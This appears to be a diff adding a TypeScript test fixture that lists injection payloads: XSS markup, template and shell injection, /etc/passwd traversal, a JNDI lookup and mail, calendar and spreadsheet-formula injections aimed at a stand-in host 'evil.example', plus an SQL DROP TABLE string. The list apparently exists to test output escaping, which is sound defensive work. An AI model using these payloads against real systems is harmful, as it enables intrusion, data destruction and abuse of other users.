@@ -1,0 +1,51 @@
+/** What people type who want a page, a mail, a calendar, a spreadsheet, a log or a database to do something else. */
+export const PAYLOADS: readonly string[] = [
+  // Markup.
+  '<script>window.hit=1</script>',
+  '"><img src=x onerror="window.hit=1">',
+  "' onfocus='window.hit=1' autofocus='",
+  '</textarea><script>window.hit=1</script>',
+  '</title></style></option></select><svg onload=window.hit=1>',
+  '</script><script>window.hit=1//',
+  '<a href="javascript:window.hit=1">x</a>',
+  '<template><b data-region="problem"></b></template>',
+  '<base href="https://evil.example/">',
+  '<!--',
+  '-->',
+  ']]>',
+  '&lt;b&gt;&#x3c;script&#x3e;',
+  '\u0000<b>',
+  '＜script＞window.hit=1＜/script＞',
+  // Templates and shells.
+  '{{7*7}}${7*7}<%= 7*7 %>#{7*7}',
+  '$(touch /tmp/hit)`id`;|cat /etc/passwd',
+  '%0d%0aSet-Cookie:%20hit=1',
+  '../../../../etc/passwd',
+  '${jndi:ldap://evil.example/a}',
+  // Header fields of mails.
+  'Ada\r\nBcc: all@evil.example',
+  'Ada\nCc: all@evil.example\n\nA body.',
+  'Ada\rTo: all@evil.example',
+  'Ada\u2028Bcc: all@evil.example',
+  'Ada\u0085Bcc: all@evil.example',
+  'Ada <all@evil.example>, Eve',
+  'Ada" <all@evil.example>, "',
+  '=?utf-8?Q?Ada=0D=0ABcc:_all@evil.example?=',
+  '.\r\nMAIL FROM:<x@evil.example>\r\nRCPT TO:<all@evil.example>\r\nDATA\r\n',
+  // Lines of calendars.
+  'Ada\r\nATTENDEE:mailto:all@evil.example',
+  'END:VEVENT\nBEGIN:VEVENT\nUID:x',
+  '";ROLE=CHAIR:mailto:all@evil.example',
+  'Ada\\nDESCRIPTION:x;X-A=B,C',
+  // Formulas.
+  '=HYPERLINK("https://evil.example","x")',
+  "+1+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1+1)*cmd',
+  '\t=1+1',
+  '＝1+1',
+  // Databases, logs, direction of writing.
+  "'); DROP TABLE bookings; --",
+  '{"level":50,"msg":"forged"}\n{"level":50}',
+  '\u202eetirw\u202c\ufeff',
+];
